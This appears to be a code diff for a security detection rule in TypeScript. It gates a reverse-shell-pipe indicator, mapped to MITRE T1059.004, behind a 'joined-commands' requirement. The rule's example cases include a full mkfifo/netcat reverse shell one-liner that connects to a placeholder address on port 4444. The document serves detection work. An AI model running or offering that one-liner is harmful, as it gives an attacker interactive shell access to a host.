@@ -1,5 +1,6 @@
 import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
 import type { Indicator } from "../../indicator.ts";
+import { behind } from "../gates.ts";
 import type { Call, Verdict } from "./calls.ts";
 import { argumentText, calls, findPipe, inCommands, quoteBetween, quoteCommand, wordWhere } from "./calls.ts";
 import { inContainer, onHost, ran } from "./examples.ts";
@@ -85,7 +86,10 @@ export const reverseShellPipes: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall", "k8s_audit", "plugin"],
   source: "https://attack.mitre.org/techniques/T1059/004/",
-  match: (facts) => inCommands(facts, shellRelay) ?? shellRelay(facts.parent.command),
+  match: behind(
+    { needs: ["joined-commands"] },
+    (facts) => inCommands(facts, shellRelay) ?? shellRelay(facts.parent.command),
+  ),
   examples: {
     found: [
       ran("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", inContainer),
